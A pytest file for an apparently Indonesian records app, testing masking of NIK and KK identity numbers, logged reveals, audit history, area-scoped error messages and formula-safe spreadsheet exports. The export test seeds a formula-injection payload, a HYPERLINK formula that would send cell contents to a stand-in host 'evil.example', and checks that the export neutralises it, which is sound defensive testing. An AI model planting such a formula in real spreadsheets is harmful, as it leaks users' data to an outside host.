"""Personal data: NIK/KK masked, revealed only on a logged request by those allowed; audit trail
with field-level before/after; spreadsheet exports masked, logged and formula-safe."""

from __future__ import annotations

import io
import re
from typing import Any

import openpyxl
import pytest
import sqlalchemy as sa

from app.extensions import db
from tests.conftest import add_user, app_with_forms, login, publish_yaml, rebuilt

FORM = """
form: warga
title: Warga
permissions: {Petugas: [view, add, edit], Pemeriksa: [view, reveal]}
fields:
  - {name: nik, type: nik, label: NIK}
  - {name: no_kk, type: kk, label: No. KK}
  - {name: nama, type: text, label: Nama}
  - {name: catatan, type: text, label: Catatan}
"""
NIK, KK = "6309014507900001", "6309010101200001"
MASKED_NIK, MASKED_KK = "6309********0001", "6309********0001"


@pytest.fixture
def app(empty_app: Any) -> Any:
    app = app_with_forms(empty_app, FORM)
    add_user(app, "petugas", "Petugas")
    add_user(app, "pemeriksa", "Pemeriksa")
    return app


def client_for(app: Any, name: str) -> Any:
    client = app.test_client()
    login(client, name)
    return client


def access_log(app: Any) -> list[Any]:
    with app.app_context():
        return list(
            db.session.execute(
                sa.text(
                    "SELECT username, action, form, record_ids, row_count, purpose FROM simpul_access_log ORDER BY id"
                )
            )
        )


def new_record(client: Any, **values: Any) -> int:
    response = client.post("/api/v1/warga/", json={"nik": NIK, "no_kk": KK, "nama": "Siti", **values})
    assert response.status_code == 201, response.json
    return response.json["id"]


def test_nik_and_kk_are_masked_and_revealed_only_on_a_logged_request(app: Any) -> None:
    petugas, pemeriksa = client_for(app, "petugas"), client_for(app, "pemeriksa")
    pk = new_record(petugas)
    assert petugas.post("/api/v1/warga/", json={}).status_code in (201, 422)  # the API works for the role
    for client in (petugas, pemeriksa):
        page = client.get("/forms/warga/list/").get_data(as_text=True)
        assert NIK not in page and MASKED_NIK in page
        record = client.get(f"/api/v1/warga/{pk}").json["result"]
        assert (record["nik"], record["no_kk"]) == (MASKED_NIK, MASKED_KK)
        show = client.get(f"/forms/warga/show/{pk}").get_data(as_text=True)
        assert NIK not in show and KK not in show
    assert access_log(app) == []
    # not allowed: refused, nothing shown
    assert petugas.get(f"/api/v1/warga/{pk}?reveal=true").status_code == 403
    assert "Tampilkan NIK" not in petugas.get(f"/forms/warga/show/{pk}").get_data(as_text=True)
    assert NIK not in petugas.post(f"/forms/warga/reveal/{pk}", data={"purpose": "x"}).get_data(as_text=True)
    # allowed: shown in full, and logged with the purpose
    assert "Tampilkan NIK" in pemeriksa.get(f"/forms/warga/show/{pk}").get_data(as_text=True)
    page = pemeriksa.post(f"/forms/warga/reveal/{pk}", data={"purpose": "verifikasi penyaluran"})
    assert page.status_code == 200 and NIK in page.get_data(as_text=True) and KK in page.get_data(as_text=True)
    record = pemeriksa.get(f"/api/v1/warga/{pk}?reveal=true&purpose=cek%20KK").json["result"]
    assert record["nik"] == NIK
    assert access_log(app) == [
        ("pemeriksa", "reveal", "warga", f"[{pk}]", 1, "verifikasi penyaluran"),
        ("pemeriksa", "reveal", "warga", f"[{pk}]", 1, "cek KK"),
    ]
    # the next request is masked again
    assert pemeriksa.get(f"/api/v1/warga/{pk}").json["result"]["nik"] == MASKED_NIK
    # the admin screen lists the log; other roles cannot open it
    admin = client_for(app, "admin")
    assert "verifikasi penyaluran" in admin.get("/keamanan/log-akses/list/").get_data(as_text=True)
    assert petugas.get("/keamanan/log-akses/list/").status_code != 200


def test_a_purpose_with_characters_no_database_stores_is_logged_without_them(app: Any) -> None:
    # CI's fuzzer: ?purpose= with a NUL answered 500 on PostgreSQL (it refuses NUL in text). The
    # address is refused (test_error_pages); the screen's form drops them from the logged note.
    pemeriksa = client_for(app, "pemeriksa")
    pk = new_record(client_for(app, "petugas"))
    dirty = "cek\x00 data\x7f\x1b\u0085 ulang"
    assert pemeriksa.get(f"/api/v1/warga/{pk}", query_string={"reveal": "true", "purpose": dirty}).status_code == 400
    page = pemeriksa.post(f"/forms/warga/reveal/{pk}", data={"purpose": dirty})
    assert page.status_code == 200 and NIK in page.get_data(as_text=True)
    # nothing left but the control characters: no purpose at all
    page = pemeriksa.post(f"/forms/warga/reveal/{pk}", data={"purpose": "\x00" * 9}).get_data(as_text=True)
    assert NIK not in page
    assert [row[-1] for row in access_log(app)] == ["cek data ulang"]


def test_an_edit_form_keeps_a_masked_nik_unless_it_is_retyped(app: Any) -> None:
    petugas = client_for(app, "petugas")
    pk = new_record(petugas)
    form = petugas.get(f"/forms/warga/edit/{pk}").get_data(as_text=True)
    assert NIK not in form and MASKED_NIK in form
    response = petugas.post(
        f"/forms/warga/edit/{pk}", data={"nik": MASKED_NIK, "no_kk": MASKED_KK, "nama": "Siti Aminah"}
    )
    assert response.status_code == 302
    with app.app_context():
        row = db.session.execute(sa.text("SELECT nik, no_kk, nama FROM form_warga")).one()
    assert tuple(row) == (NIK, KK, "Siti Aminah")


def test_every_change_is_in_the_audit_trail_and_the_history_tab(app: Any) -> None:
    petugas = client_for(app, "petugas")
    pk = new_record(petugas, catatan="awal")
    assert petugas.put(f"/api/v1/warga/{pk}", json={"nama": "Siti Aminah", "catatan": "diubah"}).status_code == 200
    with app.app_context():
        rows = db.session.execute(
            sa.text("SELECT username, action, changes FROM simpul_audit WHERE form = 'warga' ORDER BY id")
        ).all()
    assert [(r[0], r[1]) for r in rows] == [("petugas", "create"), ("petugas", "update")]
    import json

    changes = [json.loads(r[2]) if isinstance(r[2], str) else r[2] for r in rows]
    assert changes[0]["nama"] == [None, "Siti"] and changes[0]["nik"] == [None, NIK]
    assert changes[1] == {"nama": ["Siti", "Siti Aminah"], "catatan": ["awal", "diubah"]}
    page = petugas.get(f"/forms/warga/show/{pk}").get_data(as_text=True)
    assert (
        re.search(r"Riwayat perubahan\s*<span class=\"badge\">2</span>", page)
        and "Diubah" in page
        and "Siti Aminah" in page
    )
    assert NIK not in page  # history values are masked like the rest
    # a retired field stays readable in the history
    publish_yaml(app, FORM.replace("  - {name: catatan, type: text, label: Catatan}\n", ""))
    fresh = rebuilt(app)
    admin = client_for(fresh, "admin")
    page = admin.get(f"/forms/warga/show/{pk}").get_data(as_text=True)
    assert re.search(r"Catatan \(dipensiunkan\)", page) and "awal" in page
    assert admin.delete(f"/api/v1/warga/{pk}").status_code == 200
    with fresh.app_context():
        last = db.session.execute(sa.text("SELECT username, action FROM simpul_audit ORDER BY id DESC")).first()
    assert tuple(last) == ("admin", "delete")


def test_exports_are_masked_logged_and_formula_safe(app: Any) -> None:
    petugas = client_for(app, "petugas")
    new_record(petugas, nama='=HYPERLINK("http://evil.example/"&A1,"klik")', catatan="+62 811")
    new_record(petugas, nik="6309010101900002", no_kk="6309010101200002", nama="@SUM(1)", catatan="-1+2")
    response = petugas.get("/forms/warga/export/")
    assert response.status_code == 200
    sheet = openpyxl.load_workbook(io.BytesIO(response.data)).active
    rows = [[c.value for c in row] for row in sheet.iter_rows()]
    assert rows[0] == ["NIK", "No. KK", "Nama", "Catatan"]
    body = rows[1:]
    assert {r[0] for r in body} == {MASKED_NIK, "6309********0002"}
    for row in body:
        for value in row:
            assert not str(value).startswith(("=", "+", "-", "@")), value
    assert any(str(v).startswith("'=HYPERLINK") for r in body for v in r)
    assert all(c.data_type == "s" for row in sheet.iter_rows(min_row=2) for c in row if c.value is not None)
    assert access_log(app)[-1][:2] == ("petugas", "export") and access_log(app)[-1][4] == 2


ROSTER = """
form: daftar
title: Daftar
region_field: desa
permissions: {Kecamatan: [view, add, edit]}
unique_together: [[nik, tahap]]
fields:
  - {name: tahap, type: integer, label: Tahap, required: true}
  - {name: nik, type: nik, label: NIK, required: true}
  - {name: no_kk, type: kk, label: No. KK}
  - {name: nama, type: text, label: Nama}
  - {name: desa, type: region, level: desa, label: Desa, required: true}
  - name: pengurus
    type: child
    label: Pengurus
    fields:
      - {name: nama, type: text, label: Nama, required: true}
      - {name: peran, type: choice, label: Peran, choices: [ketua, anggota]}
rules:
  - {rule: confirm_same, fields: [no_kk], within: [tahap]}
  - {rule: child_count, child: pengurus, where: {peran: ketua}, max: 1}
"""
DESA_A, DESA_B = "63.09.01.2001", "63.09.02.2002"


@pytest.fixture
def areas(empty_app: Any) -> Any:
    app = app_with_forms(empty_app, ROSTER)
    for name, scope in (("kec_a", "63.09.01"), ("kec_b", "63.09.02")):
        add_user(app, name, "Kecamatan")
        with app.app_context():
            user = app.appbuilder.sm.find_user(name)
            user.region_scope = scope
            app.appbuilder.sm.update_user(user)
    return app


def test_messages_never_name_a_record_outside_the_users_area(areas: Any) -> None:
    kec_a, kec_b = client_for(areas, "kec_a"), client_for(areas, "kec_b")
    theirs = kec_b.post("/api/v1/daftar/", json={"tahap": 1, "nik": NIK, "no_kk": KK, "nama": "B", "desa": DESA_B})
    assert theirs.status_code == 201
    foreign = theirs.json["id"]
    assert kec_a.get(f"/api/v1/daftar/{foreign}").status_code == 404
    same_nik = kec_a.post("/api/v1/daftar/", json={"tahap": 1, "nik": NIK, "nama": "A", "desa": DESA_A})
    assert same_nik.status_code == 422
    assert same_nik.json["message"]["nik"] == ["sudah dipakai bersama Tahap oleh data lain"]
    same_kk = kec_a.post(
        "/api/v1/daftar/", json={"tahap": 1, "nik": "6309015507900002", "no_kk": KK, "nama": "A", "desa": DESA_A}
    )
    assert same_kk.json["warnings"]["no_kk"] == [
        "No. KK yang sama (Tahap) sudah ada pada data lain; periksa sebelum menyimpan"
    ]
    screen = kec_a.post("/forms/daftar/add", data={"tahap": "1", "nik": NIK, "nama": "A", "desa": DESA_A}).get_data(
        as_text=True
    )
    assert "sudah dipakai bersama Tahap oleh data lain" in screen and f"#{foreign}" not in screen
    # the owner's own area: the record is named
    again = kec_b.post("/api/v1/daftar/", json={"tahap": 1, "nik": NIK, "nama": "B2", "desa": DESA_B})
    assert again.json["message"]["nik"] == [f"sudah dipakai bersama Tahap oleh data #{foreign}"]


def test_rules_of_a_parent_outside_the_area_are_not_answered(areas: Any) -> None:
    kec_a, kec_b = client_for(areas, "kec_a"), client_for(areas, "kec_b")
    parent = kec_b.post("/api/v1/daftar/", json={"tahap": 1, "nik": NIK, "nama": "B", "desa": DESA_B}).json["id"]
    assert (
        kec_b.post("/api/v1/daftar__pengurus/", json={"parent_id": parent, "nama": "K", "peran": "ketua"}).status_code
        == 201
    )
    probe = kec_a.post("/api/v1/daftar__pengurus/", json={"parent_id": parent, "nama": "X", "peran": "ketua"})
    assert probe.status_code == 422
    assert probe.json["message"] == {"parent_id": ["data induk tidak ditemukan"]}  # not "at most 1 rows …"


def test_a_record_titled_by_its_nik_is_named_masked_everywhere(empty_app: Any) -> None:
    titled = FORM.replace("title: Warga\n", "title: Warga\ntitle_field: nik\n")
    visit = """
form: kunjungan
title: Kunjungan
permissions: {Petugas: [view, add]}
fields:
  - {name: warga, type: reference, target: warga, label: Warga}
  - {name: catatan, type: text, label: Catatan}
"""
    app = app_with_forms(empty_app, titled, visit)
    add_user(app, "petugas", "Petugas")
    petugas = client_for(app, "petugas")
    pk = new_record(petugas)
    assert petugas.post("/api/v1/kunjungan/", json={"warga": pk, "catatan": "x"}).status_code == 201
    for url in (
        "/api/v1/kunjungan/",
        "/api/v1/kunjungan/_info?q=(keys:!(add_columns))",
        "/api/v1/kunjungan/related/warga",
        "/forms/kunjungan/list/",
        "/forms/kunjungan/add",
        "/forms/warga/list/",
    ):
        text = petugas.get(url).get_data(as_text=True)
        assert NIK not in text, url
    assert MASKED_NIK in petugas.get("/forms/kunjungan/list/").get_data(as_text=True)
